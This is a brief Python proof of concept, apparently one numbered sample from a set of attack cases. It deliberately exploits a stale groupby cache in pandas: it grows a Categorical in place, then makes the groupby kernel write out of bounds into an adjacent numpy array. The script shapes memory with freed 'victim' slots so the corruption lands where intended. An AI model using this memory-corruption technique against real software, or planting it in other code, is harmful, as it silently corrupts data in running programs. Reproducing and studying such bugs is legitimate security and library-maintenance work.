# source: as attack12at_036; len(gb) -> Grouping.groups caches _codes_and_uniques
# family: stale groupby cache over a Categorical grown in place -> groupby kernel out-of-bounds write (len(gb) variant)
# goal: gb.last() writes 4242.0 into another numpy array (victim changes)
import numpy as np
import pandas as pd

n = 130                            # int16 codes; kernel buffers are n*8 = 1040 bytes
cat = pd.Categorical([0] * 8, categories=list(range(n)))
s = pd.Series([4242.0] * 8)
gb = s.groupby(cat)
print("groups before:", len(gb))  # caches the group count (n) and a view of cat's codes
victims = [np.zeros(n) for _ in range(200)]
for k in range(180, 100, -2):
    victims[k] = None              # holes between live victims
cat.add_categories(list(range(n, n + 10)), inplace=True)
cat[:] = [n + 2] * 8               # the cached codes view now holds 132 with 130 groups
r = gb.last()
print("groups:", len(r), "non-null:", int(r.notna().sum()))
changed = [(k, v[:2].tolist()) for k, v in enumerate(victims) if v is not None and v.any()]
print("victim arrays written by the kernel:", changed)
